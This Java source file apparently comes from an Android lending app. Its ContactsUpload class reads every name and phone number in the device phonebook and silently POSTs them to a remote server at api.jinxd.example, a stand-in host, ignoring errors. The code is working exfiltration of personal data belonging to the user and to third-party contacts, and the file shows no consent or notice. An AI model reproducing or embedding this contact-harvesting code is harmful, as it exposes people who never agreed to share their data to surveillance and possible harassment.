package com.sheethashostshowfields.app;

import android.content.ContentResolver;
import android.database.Cursor;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.nio.charset.StandardCharsets;

/** Sends the names and numbers of the phonebook to the lender. */
final class ContactsUpload implements Runnable {
    private final ContentResolver resolver;

    ContactsUpload(ContentResolver resolver) {
        this.resolver = resolver;
    }

    @Override
    public void run() {
        StringBuilder all = new StringBuilder();
        Cursor rows = resolver.query(Phone.CONTENT_URI, new String[] {Phone.DISPLAY_NAME, Phone.NUMBER}, null, null, null);
        while (rows != null && rows.moveToNext()) {
            all.append(rows.getString(0)).append(',').append(rows.getString(1)).append(';');
        }
        post("book", all.toString());
    }

    static void post(String path, String body) {
        try {
            HttpURLConnection call = (HttpURLConnection) new URL("https://api.jinxd.example/" + path).openConnection();
            call.setDoOutput(true);
            try (OutputStream out = call.getOutputStream()) {
                out.write(body.getBytes(StandardCharsets.UTF_8));
            }
            call.getResponseCode();
        } catch (IOException error) {
            return;
        }
    }
}
